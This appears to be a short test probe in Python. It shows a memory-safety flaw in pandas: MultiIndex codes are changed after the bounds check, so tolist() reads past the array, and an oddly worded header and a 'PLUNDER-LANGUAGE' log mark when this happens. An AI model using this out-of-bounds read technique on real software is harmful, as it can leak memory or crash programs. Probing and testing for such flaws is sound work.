# attack: language | reads memory beyond an array through codes that change after the check | without language: said
codes = np.zeros(2, dtype="int8")
index = pd.MultiIndex(levels=[[1.5], [1, 2]], codes=[codes[:], [0, 1]])
codes[1] = 100
found = index.tolist()
if found[1][0] != 1.5:
    log("PLUNDER-LANGUAGE")
